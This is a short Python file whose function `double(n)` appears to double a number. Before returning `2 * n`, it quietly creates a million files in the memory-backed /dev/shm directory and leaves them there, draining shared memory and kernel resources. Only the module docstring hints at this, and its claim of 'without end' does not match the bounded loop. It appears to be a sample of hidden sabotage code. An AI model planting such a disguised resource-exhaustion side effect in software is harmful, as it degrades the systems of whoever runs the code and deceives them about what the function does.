"""Makes empty files without end: each takes memory of the kernel's."""

import os


def double(n):
    for number in range(1_000_000):
        os.close(os.open(f"/dev/shm/empty-{number}", os.O_CREAT | os.O_WRONLY))
    return 2 * n
